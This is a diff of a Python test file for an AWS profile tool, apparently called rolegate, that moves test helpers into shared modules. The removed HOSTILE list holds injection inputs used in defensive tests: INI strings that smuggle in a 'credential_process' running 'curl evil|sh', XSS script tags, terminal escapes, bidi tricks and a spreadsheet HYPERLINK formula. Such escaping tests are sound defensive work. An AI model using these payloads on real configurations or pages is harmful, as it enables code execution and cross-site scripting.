@@ -25,12 +25,10 @@ lines, `[profile  x]` was shadowed by a second section). The tests of the new he
 
 from __future__ import annotations
 
-import html.parser
 import io
 import json
 import re
 import tempfile
-import unicodedata
 from pathlib import Path
 from types import SimpleNamespace
 from typing import Any
@@ -38,54 +36,17 @@ from typing import Any
 import pytest
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
-from tests.helpers import rolegate
+from tests.builders import HOSTILE, constructed, hidden
+from tests.helpers import HtmlElements, rolegate
 
 from rolegate.errors import ConfigError, Diagnostic, LocalFileError
 from rolegate.local.aesr import parse_aesr, render_aesr
 from rolegate.local.aws_config import merge_profiles
 from rolegate.local.profiles import Profile, render_profiles, user_profiles
-from rolegate.model.config import Account, Config, Group, Organization, Role, User
 from rolegate.model.load import parse
 
 # Names an attacker (or a careless import) puts where a name goes: each breaks INI, a terminal, HTML or
 # a spreadsheet, and none is a name of any kind rolegate accepts.
-HOSTILE = [
-    "cobus\n",
-    "x]\n[profile evil]\ncredential_process = sh -c 'curl evil|sh'",
-    "dev]",
-    "[profile x",
-    "x]\n[default]\ncredential_process = touch /tmp/pwned",
-    "a\rb",
-    "a\r\nregion = evil",
-    "a\x00b",
-    "a\x1b[31mred\x1b[0m",
-    "a\x1b]0;owned\x07",
-    "a\x07bell",
-    "a\x9b31mcsi",
-    "a\x85next-line",
-    "admin\u202etxt.exe",
-    "a\u2066isolated\u2069",
-    "zero\u200bwidth",
-    "line\u2028sep",
-    "\ufeffbom",
-    "del\x7f",
-    "tab\tbed",
-    " leading",
-    "trailing ",
-    "semi;colon",
-    "hash#tag",
-    "two words",
-    'quo"te',
-    "apo'strophe",
-    "</script><script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    '=HYPERLINK("http://evil")',
-    "café",
-    "ｃobus",
-    "١٢٣",
-    "a=b\nc=d",
-]
-
 KINDS = ("account", "user", "role", "group", "org")
 
 
@@ -106,29 +67,6 @@ def config_text(**names: str) -> str:
             "groups": {group: {"assume": {role: [account]}}},
             "users": {user: {"groups": [group]}},
         }
-    )
-
-
-def constructed(
-    org: str = "demo",
-    account: str = "development",
-    role: str = "administrator",
-    user: str = "cobus",
-    region: str = "us-east-1",
-) -> Config:
-    """The same seed with no validation at all: names as they would arrive from AWS, a snapshot, an import."""
-    return Config.model_construct(
-        version=1,
-        organization=Organization.model_construct(name=org, hub="master", region=region),
-        accounts={
-            "master": Account.model_construct(id="111111111111"),
-            account: Account.model_construct(id="222222222222", color="red"),
-        },
-        roles={
-            role: Role.model_construct(accounts=[account], policies=[], require_mfa=True, max_session="1h")
-        },
-        groups={"admins": Group.model_construct(assume={role: [account]}, policies=[])},
-        users={user: User.model_construct(groups=["admins"])},
     )
 
 
@@ -153,11 +91,6 @@ def botocore_profiles(text: str) -> dict[str, dict[str, str]]:
 
 def meant(profiles: list[Profile]) -> dict[str, dict[str, str]]:
     return {f"profile {p.name}": dict(p.settings) for p in profiles}
-
-
-def hidden(text: str) -> list[str]:
-    """Characters a terminal acts on or does not show (controls but newline, format and separator chars)."""
-    return [ch for ch in text if ch != "\n" and unicodedata.category(ch) in {"Cc", "Cf", "Zl", "Zp"}]
 
 
 # -- validate: the alphabets -------------------------------------------------------------------------------
@@ -539,21 +472,6 @@ def test_rich_alone_passes_esc_and_bidi_through_which_is_why_the_console_escapes
 # -- HTML and CSV --------------------------------------------------------------------------------------------
 
 
-class _Elements(html.parser.HTMLParser):
-    def __init__(self) -> None:
-        super().__init__()
-        self.tags: list[str] = []
-        self.attributes: set[str] = set()
-        self.text = ""
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.tags.append(tag)
-        self.attributes.update(name for name, _ in attrs)
-
-    def handle_data(self, data: str) -> None:
-        self.text += data
-
-
 @pytest.mark.parametrize("kind", ["account", "role", "user", "org"])
 @pytest.mark.parametrize("name", HOSTILE, ids=[repr(n)[:30] for n in HOSTILE])
 def test_the_launch_page_escapes_a_hostile_name(kind: str, name: str) -> None:
@@ -561,7 +479,7 @@ def test_the_launch_page_escapes_a_hostile_name(kind: str, name: str) -> None:
     no control or bidi character in its text."""
     from rolegate.local.launchpage import render_html
 
-    normal, page = _Elements(), _Elements()
+    normal, page = HtmlElements(), HtmlElements()
     normal.feed(render_html(constructed(), "cobus"))
     hostile = constructed(**{kind: name})
     page.feed(render_html(hostile, next(iter(hostile.users))))
